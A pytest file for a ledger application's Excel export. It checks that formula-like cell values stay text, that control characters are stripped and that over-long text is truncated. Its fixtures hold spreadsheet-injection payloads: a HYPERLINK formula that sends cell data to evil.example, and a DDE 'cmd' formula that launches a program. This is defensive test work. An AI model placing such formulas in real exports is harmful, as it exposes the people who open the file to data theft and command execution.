"""Cells are data, never formulas; characters XML forbids are dropped; over-long text is cut visibly."""

import io
import zipfile

import pytest

from excel.cells import CELL_LIMIT, TRUNCATION_MARKER, cell_text
from ledger.choices import Status
from ledger.models import Measure
from ledger.services import progress_note_add
from tests.excel.conftest import calamine, export_bytes, styled

EAST = "东城区委-十三届示范省委第四轮巡视"

INJECTIONS = {
    "text": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "responsible_leader": "+1+1",
    "lead_unit": "-2+3",
    "responsible_units": "@SUM(A1:A9)",
}


@pytest.fixture
def injected(ledger):
    measure = ledger.east_measures[0]
    Measure.objects.filter(pk=measure.pk).update(**INJECTIONS)
    progress_note_add(measure=measure, text="\t=cmd|' /C calc'!A0", status_after=Status.DONE)
    other = ledger.east_measures[1]
    Measure.objects.filter(pk=other.pk).update(text="#N/A", responsible_leader="\r=1")
    return measure


def test_formula_like_text_is_written_as_text(injected, users):
    data = export_bytes(users.admin)
    first, second = calamine(data)[EAST][2:4]
    assert first[3:7] == [INJECTIONS["text"], "+1+1", "-2+3", "@SUM(A1:A9)"]
    assert first[8] == "\t=cmd|' /C calc'!A0"
    assert second[3] == "#N/A"
    ws = styled(data)[EAST]
    for ref in ("D3", "E3", "F3", "G3", "I3", "D4"):
        assert ws[ref].data_type == "s", ref
        assert isinstance(ws[ref].value, str)
    for ref in ("D3", "E3", "F3", "G3", "I3"):
        assert ws[ref].quotePrefix, ref  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet2"))
        xml = z.read(sheet)
    assert b"<f>" not in xml and b"<f " not in xml


def test_carriage_return_prefix_is_quoted(injected, users):
    ws = styled(export_bytes(users.admin))[EAST]
    assert ws["E4"].data_type == "s" and ws["E4"].quotePrefix


def test_control_characters_are_removed(ledger, users):
    measure = ledger.east_measures[0]
    # (NUL cannot be stored by PostgreSQL at all; it is covered by the unit test below.)
    Measure.objects.filter(pk=measure.pk).update(text="措施\x01\x07\x1b\x0b有\ufffe控制符\n第二行")
    row = calamine(export_bytes(users.admin))[EAST][2]
    assert row[3] == "措施有控制符\n第二行"


def test_text_beyond_the_cell_limit_is_truncated_with_a_marker(ledger, users):
    measure = ledger.east_measures[0]
    progress_note_add(measure=measure, text="进" * 40000, status_after=Status.DONE)
    value = calamine(export_bytes(users.admin))[EAST][2][8]
    assert value.endswith(TRUNCATION_MARKER)
    assert len(value) == CELL_LIMIT
    assert value.startswith("进" * 30000)


def test_truncation_counts_utf16_units():
    text = "𠀀" * 20000  # outside the BMP: two UTF-16 units each
    cut = cell_text(text)
    assert cut.endswith(TRUNCATION_MARKER)
    assert len(cut.encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert cell_text("x" * CELL_LIMIT) == "x" * CELL_LIMIT
    assert cell_text("a\r\nb") == "a\nb"
    assert cell_text(None) == ""
    assert cell_text("a\x00b\x1fc\td") == "abc\td"
